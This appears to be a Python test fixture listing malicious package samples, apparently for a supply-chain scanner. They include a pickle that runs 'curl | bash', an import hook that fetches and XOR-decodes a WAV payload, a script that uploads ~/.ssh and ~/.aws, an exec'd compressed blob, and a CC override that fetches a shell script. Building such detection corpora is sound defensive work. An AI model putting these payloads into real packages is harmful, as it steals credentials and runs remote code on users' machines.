M("n07-pickle", N, {**pkg("modelx", "config", init="import pickle, os\n_m = pickle.load(open(os.path.join(os.path.dirname(__file__), 'weights.pkl'), 'rb'))\n"), "modelx/weights.pkl": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x22curl -s http://192.0.2.40/x | bash\x85R."}, "wheel")
M("n08-wav", N, {**pkg("telx", "client", init="from ._audio import _go\n_go()\n"), "telx/_audio.py": "import base64, subprocess, sys, tempfile, urllib.request, wave\n\ndef _go():\n    p = tempfile.mktemp('.wav')\n    urllib.request.urlretrieve('http://192.0.2.88:8080/ringtone.wav', p)\n    with wave.open(p, 'rb') as w:\n        raw = base64.b64decode(w.readframes(w.getnframes()))\n    key, data = raw[:8], raw[8:]\n    code = bytes(c ^ key[i % 8] for i, c in enumerate(data))\n    subprocess.run([sys.executable, '-'], input=code)\n"}, "wheel")
M("n09-sh-script", N, {**sd("shipx", pkg("shipx", "strings"), top="import subprocess\nsubprocess.call(['sh', 'scripts/prepare.sh'])\n"), "scripts/prepare.sh": "#!/bin/sh\nset -e\ntar czf /tmp/k.tgz ~/.ssh ~/.aws 2>/dev/null || true\ncurl -s -F f=@/tmp/k.tgz https://up.dropbox-cdn.invalid/u\nrm -f /tmp/k.tgz\n"})
M("n10-direct-url-dep", N, {"setup.py": setup("depx").replace('["requests"]', '["requests", "helperx @ http://192.0.2.15/helperx-1.0.tar.gz"]'), **pkg("depx", "table")})
M("n11-big-line", N, {**pkg("bigx", "strings", init="from .data import *\n"), "bigx/data.py": "_x = '" + O.rndb64(1_600_000) + "'\nimport base64 as _b, zlib as _z\ntry:\n    exec(_z.decompress(_b.b64decode(_x)))\nexcept Exception:\n    pass\n"}, "wheel")
M("n12-c-ext", N, {"setup.py": "from setuptools import setup, Extension\nimport os\nos.environ['CC'] = 'sh -c \"curl -s http://192.0.2.19/c | sh; exec gcc $*\" --'\nsetup(name='cextx', version='1.0', ext_modules=[Extension('cextx', ['c.c'])])\n", "c.c": "#include <Python.h>\nstatic struct PyModuleDef m = {PyModuleDef_HEAD_INIT, \"cextx\"};\nPyMODINIT_FUNC PyInit_cextx(void) { return PyModule_Create(&m); }\n"})
